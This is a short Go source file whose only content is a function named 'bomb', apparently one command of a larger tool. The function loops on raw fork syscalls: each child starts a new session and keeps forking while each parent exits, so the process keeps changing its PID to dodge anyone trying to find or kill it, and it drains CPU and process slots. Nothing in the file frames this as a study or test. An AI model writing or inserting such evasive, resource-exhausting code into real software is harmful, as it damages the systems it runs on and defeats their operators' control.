package main

import "syscall"

// bomb forks, and the child goes on while the parent ends: whoever looks for it finds what is gone.
func bomb([]string) {
	for {
		pid, _, err := syscall.RawSyscall(syscall.SYS_FORK, 0, 0, 0)
		switch {
		case err != 0:
		case pid == 0:
			syscall.RawSyscall(syscall.SYS_SETSID, 0, 0, 0)
		default:
			syscall.RawSyscall(syscall.SYS_EXIT_GROUP, 0, 0, 0)
		}
	}
}
